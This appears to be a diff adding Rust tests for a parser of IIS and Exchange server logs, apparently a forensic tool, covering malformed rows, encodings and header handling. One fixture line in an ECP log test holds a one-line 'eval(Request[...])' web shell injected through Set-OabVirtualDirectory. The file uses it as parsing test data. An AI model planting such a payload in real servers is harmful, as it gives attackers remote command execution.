@@ -1,0 +1,204 @@
+//! Text logs in odd shapes: text in, rows out.
+
+mod common;
+
+use common::{Read, read};
+use insta::assert_snapshot;
+
+const IIS: &str = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status X-Custom\n";
+const PROXY: &str = "#Software: Microsoft Exchange Server\n#Version: 15.01.2106.002\n#Log-type: HttpProxy Logs\n#Fields: DateTime,RequestId,UrlStem,UserAgent,HttpStatus,RequestBytes\n";
+
+fn only(bytes: &[u8]) -> Read {
+    let mut read = read("somewhere.log", bytes);
+    assert_eq!(read.len(), 1, "one table claims it");
+    read.remove(0).1
+}
+
+fn shown(bytes: &[u8], columns: &[&str]) -> String {
+    let read = only(bytes);
+    let rejects =
+        read.account.rejects.iter().map(|r| {
+            format!("reject {} at {} of {} bytes: {}: {:?}", r.pos, r.offset, r.bytes, r.reason.word(), r.sample)
+        });
+    let mut lines = vec![read.summary(), read.table(columns)];
+    lines.extend(rejects);
+    lines.retain(|l| !l.is_empty());
+    lines.join("\n")
+}
+
+fn iis(rows: &str) -> String {
+    shown(
+        format!("{IIS}{rows}").as_bytes(),
+        &["pos", "ts", "cs_uri_stem", "query_shape", "q_cid", "sc_status", "extra"],
+    )
+    .replace('\u{1}', "{}")
+}
+
+fn proxy(rows: &str) -> String {
+    shown(
+        format!("{PROXY}{rows}").as_bytes(),
+        &["pos", "ts", "request_id", "user_agent", "http_status", "build", "extra"],
+    )
+}
+
+#[test]
+fn rows_of_iis() {
+    assert_snapshot!(iis("2021-03-03 06:49:42 GET /a cid=7&x=1 ::1 200 v\r\n2021-03-03 06:49:43 GET /b - ::1 - -\r\n"), @r#"
+    2 rows, 0 rejects
+    3 | 2021-03-03T06:49:42Z | /a | cid={}&x=1 | 7 | 200 | {"X-Custom":"v"}
+    4 | 2021-03-03T06:49:43Z | /b |  |  |  |
+    "#);
+    assert_snapshot!(iis("2021-03-03 06:49:42 GET /a  - ::1 200 v\n2021-03-03 06:49:42 GET /a - 200\n2021-13-03 06:49:42 GET /a - ::1 200 v\n2021-03-03 06:4"), @r#"
+    1 rows, 3 rejects, 1 bad-time, 1 cut-off, 1 wrong-field-count
+    3 | 2021-03-03T06:49:42Z | /a |  |  | 200 | {"X-Custom":"v"}
+    reject 4 at 174 of 33 bytes: wrong-field-count: "2021-03-03 06:49:42 GET /a - 200"
+    reject 5 at 207 of 39 bytes: bad-time: "2021-13-03 06:49:42 GET /a - ::1 200 v"
+    reject 6 at 246 of 15 bytes: cut-off: "2021-03-03 06:4"
+    "#);
+    assert_snapshot!(iis("2021-03-03 06:49:42 GET /a - ::1 4294967296999999999999 v\n"), @r#"
+    1 rows, 0 rejects
+    3 | 2021-03-03T06:49:42Z | /a |  |  |  | {"sc-status":"4294967296999999999999","X-Custom":"v"}
+    "#);
+}
+
+#[test]
+fn columns_may_change_in_the_middle() {
+    assert_snapshot!(iis("2021-03-03 06:49:42 GET /a - ::1 200 v\n#Fields: date time sc-status cs-uri-stem\n2021-03-03 06:49:43 404 /b\n#Fields: sc-status cs-uri-stem\n404 /c\n"), @r#"
+    2 rows, 1 rejects, 1 bad-time
+    3 | 2021-03-03T06:49:42Z | /a |  |  | 200 | {"X-Custom":"v"}
+    5 | 2021-03-03T06:49:43Z | /b |  |  | 404 | 
+    reject 7 at 272 of 7 bytes: bad-time: "404 /c"
+    "#);
+}
+
+#[test]
+fn rows_of_the_proxy() {
+    assert_snapshot!(proxy("2021-03-03T06:49:42.162Z,r1,/ecp/y.js,\"a, \"\"b\"\"\",241,n/a\r\n2021-03-03T06:49:43Z,r2,/,x,200\r\n,r3,/,x,200,1\r\n2021-03-03T06:49:44Z,r4,/,\"open,200,1\r\n2021-03-03T06:49:45Z,r5,/,\"op"), @r#"
+    1 rows, 4 rejects, 1 bad-quoting, 1 bad-time, 1 cut-off, 1 wrong-field-count
+    5 | 2021-03-03T06:49:42.162Z | r1 | a, "b" | 241 | 15.1.2106.2 | {"RequestBytes":"n/a"}
+    reject 6 at 216 of 33 bytes: wrong-field-count: "2021-03-03T06:49:43Z,r2,/,x,200"
+    reject 7 at 249 of 15 bytes: bad-time: ",r3,/,x,200,1"
+    reject 8 at 264 of 39 bytes: bad-quoting: "2021-03-03T06:49:44Z,r4,/,\"open,200,1"
+    reject 9 at 303 of 29 bytes: cut-off: "2021-03-03T06:49:45Z,r5,/,\"op"
+    "#);
+}
+
+#[test]
+fn a_bare_list_of_names_and_repeated_headers() {
+    let list = "DateTime,RequestId,UrlStem,UserAgent,HttpStatus,RequestBytes";
+    assert_snapshot!(shown(format!("{list}\r\n{PROXY}2021-03-03T06:49:42Z,r1,/,x,200,1\r\n{list}\r\n{PROXY}2021-03-03T06:49:43Z,r2,/,x,200,1\r\n").as_bytes(), &["pos", "request_id"]), @r#"
+    2 rows, 0 rejects
+    6 | r1
+    12 | r2
+    "#);
+    assert_snapshot!(shown(format!("{list}\n2021-03-03T06:49:42Z,r1,/,x,200,1\n").as_bytes(), &["pos", "request_id"]), @r#"
+    1 rows, 0 rejects
+    2 | r1
+    "#);
+}
+
+#[test]
+fn other_encodings() {
+    let text = format!("{IIS}2021-03-03 06:49:42 GET /é - ::1 200 v\r\n");
+    let wide = |unit: fn(u16) -> [u8; 2], mark: &[u8]| {
+        [mark, &text.encode_utf16().flat_map(unit).collect::<Vec<_>>()].concat()
+    };
+    for bytes in [
+        wide(u16::to_le_bytes, &[0xFF, 0xFE]),
+        wide(u16::to_be_bytes, &[0xFE, 0xFF]),
+        wide(u16::to_le_bytes, &[]),
+        wide(u16::to_be_bytes, &[]),
+        [&[0xEF, 0xBB, 0xBF], text.as_bytes()].concat(),
+        text.replace("\r\n", "\r").replace('\n', "\r").into_bytes(),
+        [wide(u16::to_le_bytes, &[0xFF, 0xFE]), vec![0; 4097]].concat(),
+    ] {
+        assert_eq!(only(&bytes).value(0, "cs_uri_stem"), "/é");
+    }
+    let latin1 = [text.replace('é', "?").as_bytes(), b"2021-03-03 06:49:42 GET /\xe9 - ::1 200 v\n"].concat();
+    assert_snapshot!(shown(&latin1, &["cs_uri_stem"]), @r#"
+    2 rows, 0 rejects
+      1 line(s) were not UTF-8 and were read as Latin-1
+    /?
+    /é
+    "#);
+}
+
+#[test]
+fn nul_fill_is_padding_and_ends_a_line() {
+    let hole = "\0".repeat(5000);
+    let row = "2021-03-03 06:49:42 GET /a - ::1 200 v\n";
+    assert_snapshot!(iis(&format!("{row}{hole}{row}2021-03-03 06:{hole}49:42 GET /a - ::1 200 v\n{row}2021-03-03{hole}")), @r#"
+    3 rows, 3 rejects, 2 cut-off, 1 wrong-field-count
+      15000 bytes are NUL fill, in 3 place(s)
+    3 | 2021-03-03T06:49:42Z | /a |  |  | 200 | {"X-Custom":"v"}
+    4 | 2021-03-03T06:49:42Z | /a |  |  | 200 | {"X-Custom":"v"}
+    6 | 2021-03-03T06:49:42Z | /a |  |  | 200 | {"X-Custom":"v"}
+    reject 5 at 5212 of 14 bytes: cut-off: "2021-03-03 06:"
+    reject 5 at 10226 of 25 bytes: wrong-field-count: "49:42 GET /a - ::1 200 v"
+    reject 7 at 10290 of 10 bytes: cut-off: "2021-03-03"
+    "#);
+    assert_snapshot!(iis("2021-03-03 06:49:42 GET /a\0b - ::1 200 v\n").replace('\0', "{NUL}"), @r#"
+    1 rows, 0 rejects
+    3 | 2021-03-03T06:49:42Z | /a{NUL}b |  |  | 200 | {"X-Custom":"v"}
+    "#);
+}
+
+#[test]
+fn a_long_line_is_passed_over() {
+    let row = "2021-03-03 06:49:42 GET /a - ::1 200 v\n";
+    let long = "x".repeat(3 << 20);
+    let read = only(format!("{IIS}{row}{long}\n{row}").as_bytes());
+    assert_snapshot!(read.summary(), @r#"
+    2 rows, 1 rejects, 1 too-long
+      line 4 has 3145729 bytes, more than we read of a line
+    "#);
+    assert_eq!(read.column("pos"), ["3", "5"]);
+    let unended = only(format!("{IIS}{row}{long}").as_bytes());
+    assert_eq!((unended.account.counts.rows, unended.account.counts.rejects), (1, 1));
+}
+
+#[test]
+fn a_header_of_ten_thousand_names_is_refused() {
+    let names: Vec<String> = (0..10_000).map(|i| format!("x{i}")).collect();
+    let text = format!("#Fields: {}\n1 2 3\n", names.join(" "));
+    let read = read("inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", text.as_bytes());
+    assert_snapshot!(read[0].1.summary(), @r#"
+    0 rows, 1 rejects, 1 no-header
+      a header names 10000 columns; no more than 1024 are read
+    "#);
+}
+
+#[test]
+fn a_table_of_another_tool_is_left_alone() {
+    let text = "#TYPE Selected.System.Management.Automation.PSCustomObject\n\"DateTime\",\"RequestId\"\n";
+    assert!(read("HttpProxy_2021.LOG", text.as_bytes()).is_empty());
+}
+
+#[test]
+fn an_unknown_exchange_log_keeps_all_its_fields() {
+    let text = "#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: Some New Log\n#Fields: Sequence,Timestamp,Text\n1,2021-03-03T06:49:42Z,\"a \"\"b\"\"\"\n";
+    assert_snapshot!(shown(text.as_bytes(), &["ts", "log_type", "extra"]), @r#"
+    1 rows, 0 rejects
+    2021-03-03T06:49:42Z | Some New Log | {"Sequence":"1","Timestamp":"2021-03-03T06:49:42Z","Text":"a \"b\""}
+    "#);
+}
+
+#[test]
+fn a_script_whose_quotes_were_lost_is_kept_whole() {
+    let text = "#Software: Microsoft Exchange Server\n#Log-type: ECP Server Log\n#Fields: TimeStamp,ServerName,EventId,EventData\n2021-03-03T06:49:53Z,EX,ECP.Request,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script>eval(Request[\"\"k\"\"],\"\"unsafe\"\");</script>''.Identity=''9''';S:EX=\n";
+    assert_snapshot!(shown(text.as_bytes(), &["cmd", "ex"]), @r#"
+    1 rows, 0 rejects
+      1 line(s) hold commas without quotes in their last field
+    Set-OabVirtualDirectory.ExternalUrl='http://f/<script>eval(Request[""k""],""unsafe"");</script>'.Identity='9' |
+    "#);
+}
+
+#[test]
+fn rows_without_a_date_take_that_of_the_header() {
+    let text = "#Software: Microsoft Internet Information Services 5.0\n#Date: 2021-03-03 00:00:00\n#Fields: time c-ip cs-method cs-uri-stem sc-status\n06:49:42 ::1 GET /a 200\n";
+    assert_snapshot!(shown(text.as_bytes(), &["ts", "cs_uri_stem"]), @r#"
+    1 rows, 0 rejects
+      1 row(s) have no date; the day that the header states was taken
+    2021-03-03T06:49:42Z | /a
+    "#);
+}
